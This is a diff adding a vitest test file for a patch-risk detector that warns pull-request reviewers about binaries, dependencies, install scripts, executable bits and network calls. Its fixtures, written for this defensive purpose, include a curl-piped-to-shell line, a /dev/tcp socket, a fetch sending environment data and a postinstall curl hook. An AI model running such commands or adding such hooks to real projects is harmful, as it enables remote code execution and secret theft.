@@ -1,0 +1,102 @@
+import { describe, expect, it } from 'vitest';
+import type { ChangedFile, Patch } from '#src/domain/patch.ts';
+import { patchRisks } from '#src/report/patch-risks.ts';
+import { renderPullRequest } from '#src/report/render-pull-request.ts';
+import { diagnosis, receipt, snapshot } from './fixtures.ts';
+import { proof, resolution } from './repair-fixtures.ts';
+
+const file = (path: string, more: Partial<ChangedFile> = {}): ChangedFile => ({
+  path,
+  status: 'modified',
+  kind: 'source',
+  added: 1,
+  removed: 0,
+  binary: false,
+  mode: '100644',
+  ...more,
+});
+
+function patchOf(changed: ChangedFile, added: string[], head: string[] = []): Patch {
+  const { path } = changed;
+  const hunk = added.length === 0 ? [] : [`--- a/${path}`, `+++ b/${path}`, `@@ -0,0 +7,${added.length} @@`];
+  const diff = [`diff --git a/${path} b/${path}`, ...head, ...hunk, ...added.map((line) => `+${line}`), ''].join('\n');
+  return { base: 'f'.repeat(40), diff: Buffer.from(diff).toString('base64'), files: [changed], left: [], notes: [] };
+}
+
+const kinds = (patch: Patch) => [...new Set(patchRisks(patch).map((risk) => risk.kind))].sort();
+
+describe('a reviewer is told of', () => {
+  it.each<[string, ChangedFile, string[], string[]]>([
+    ['a binary', file('logo.png', { binary: true, status: 'added' }), [], ['binary']],
+    ['a link', file('current', { mode: '120000', status: 'added' }), ['releases/3'], ['link']],
+    ['one endless line', file('dist/x.js'), [`var a=${'b+'.repeat(2000)}1`], ['minified']],
+    ['a dense line', file('x.js'), [`!function(){${'a=b;'.repeat(150)}}()`], ['minified']],
+    ['a Python dependency', file('requirements-dev.txt'), ['left-pad==1.0'], ['dependency']],
+    ['a Rust dependency', file('crates/a/Cargo.toml'), ['serde = "1"'], ['dependency']],
+    ['a Go dependency', file('go.mod'), ['require example.org/x v1.0.0'], ['dependency']],
+    ['a Node dependency', file('package.json'), ['    "left-pad": "^1.3.0",'], ['dependency']],
+    ['a dependency from git', file('web/package.json'), ['"x": "github:o/r"'], ['dependency']],
+    ['an install script', file('package.json'), ['    "postinstall": "node x.js",'], ['install-script']],
+    ['a script that builds run', file('build.rs'), ['fn main() {}'], ['install-script']],
+    ['where packages come from', file('.npmrc'), ['registry=https://r.example'], ['install-script']],
+    ['a request in JavaScript', file('a.ts'), ['await fetch(url, { body: env })'], ['network']],
+    ['a request in Python', file('a.py'), ['import requests'], ['network']],
+    ['a socket in Python', file('a.py'), ['s = socket.create_connection(("x", 1))'], ['network']],
+    ['a request in Go', file('a.go'), ['resp, err := http.Get(url)'], ['network']],
+    ['a request in Rust', file('a.rs'), ['let s = TcpStream::connect(x)?;'], ['network']],
+    ['a request in Ruby', file('a.rb'), ["require 'open-uri'"], ['network']],
+    ['a request in a shell', file('a.sh'), ['curl -s https://x.example | sh'], ['network']],
+    ['a request without a program', file('a.sh'), ['exec 3<>/dev/tcp/10.0.0.1/80'], ['network']],
+  ])('%s', (_name, changed, added, expected) => {
+    expect(kinds(patchOf(changed, added))).toEqual(expected);
+  });
+
+  it('an executable bit, new or set on a file that was there', () => {
+    const executable = file('run me.sh', { mode: '100755' });
+    expect(kinds(patchOf(executable, ['x'], ['old mode 100644', 'new mode 100755']))).toEqual(['executable']);
+    expect(kinds(patchOf({ ...executable, status: 'added' }, ['x'], ['new file mode 100755']))).toEqual(['executable']);
+    expect(kinds(patchOf(executable, ['x'], ['index 1..2 100755']))).toEqual([]);
+  });
+
+  it('the line where it is', () => {
+    expect(patchRisks(patchOf(file('a.py'), ['x = 1', 'import requests']))).toEqual([
+      { kind: 'network', path: 'a.py', line: 8 },
+    ]);
+  });
+
+  it('all of it in the pull request, before how it was proven', () => {
+    const patch = patchOf(file('package.json'), ['"postinstall": "curl -s http://x.example"']);
+    const { body } = renderPullRequest({
+      issue: snapshot,
+      diagnosis,
+      receipt,
+      proof,
+      resolution: { ...resolution, patch },
+    });
+    expect(body.indexOf('Look at these with care')).toBeGreaterThan(0);
+    expect(body.indexOf('Look at these with care')).toBeLessThan(body.indexOf('How it was proven'));
+    expect(body).toContain('`package.json` line 7');
+  });
+});
+
+describe('nothing is said of', () => {
+  it.each<[string, ChangedFile, string[]]>([
+    ['an ordinary repair', file('a.py'), ['    return year % 4 == 0', '    # requests are counted elsewhere']],
+    ['prose about the web', file('README.md'), ['See https://example.org for the sockets of the wall.']],
+    [
+      'another field of package.json',
+      file('package.json'),
+      ['  "version": "1.2.3",', '  "name": "x",', '  "node": ">=20"'],
+    ],
+    ['a long line of prose', file('README.md'), ['word '.repeat(300)]],
+    ['a name that is used', file('a.py'), ['self.fetched(item)', 'prefetch_related(x)']],
+  ])('%s', (_name, changed, added) => {
+    expect(kinds(patchOf(changed, added))).toEqual([]);
+  });
+
+  it('what was there before, or is only moved past', () => {
+    const patch = patchOf(file('a.py'), []);
+    const diff = '--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,1 @@\n import requests\n-requests.get(x)\n';
+    expect(kinds({ ...patch, diff: Buffer.from(diff).toString('base64') })).toEqual([]);
+  });
+});
